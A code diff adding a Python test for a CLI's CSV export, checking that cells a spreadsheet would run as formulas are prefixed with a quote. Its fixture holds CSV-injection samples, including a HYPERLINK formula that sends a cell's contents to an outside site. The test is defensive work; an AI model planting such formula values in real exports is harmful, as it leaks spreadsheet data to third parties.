@@ -4,6 +4,8 @@ the API)."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import threading
 from collections.abc import Iterator
@@ -196,6 +198,31 @@ def test_a_failed_athena_query_says_why_in_one_line() -> None:
     with stubber, pytest.raises(CliError, match="q-2 failed: line 1:8: Column 'nope'") as failure:
         athena_sql(client, "wg", "deutzia", "select nope", lambda _: None)
     assert failure.value.code == 2
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
+    api: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    entry = {
+        "event_time": "2024-05-01T12:00:00Z",
+        "principal_arn": "arn:aws:iam::123456789012:user/mallory",
+        "operation": "Put",
+        "item_key": '{"id":"=1+1"}',
+        "success": False,
+        "error_message": "-2+3",
+        "user_agent": '=HYPERLINK("https://example.com/?"&A1,"open")',
+        "source_ip": "@SUM(1)",
+        "item_index": 0,
+    }
+    _Answers.status, _Answers.body = 200, {"entries": [entry], "next_token": None}
+    with pytest.raises(SystemExit) as exit_:
+        _run_main(["history", "--table", "Music", "--endpoint", api, "--format", "csv"])
+    assert exit_.value.code == 0
+    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
+    assert row["user_agent"] == '\'=HYPERLINK("https://example.com/?"&A1,"open")'
+    assert (row["error_message"], row["source_ip"]) == ("'-2+3", "'@SUM(1)")
+    assert (row["item_key"], row["principal_arn"]) == ('{"id":"=1+1"}', entry["principal_arn"])
+    assert (row["success"], row["item_index"], row["error_code"]) == ("False", "0", "")
 
 
 @pytest.mark.usefixtures("fixed_clock")
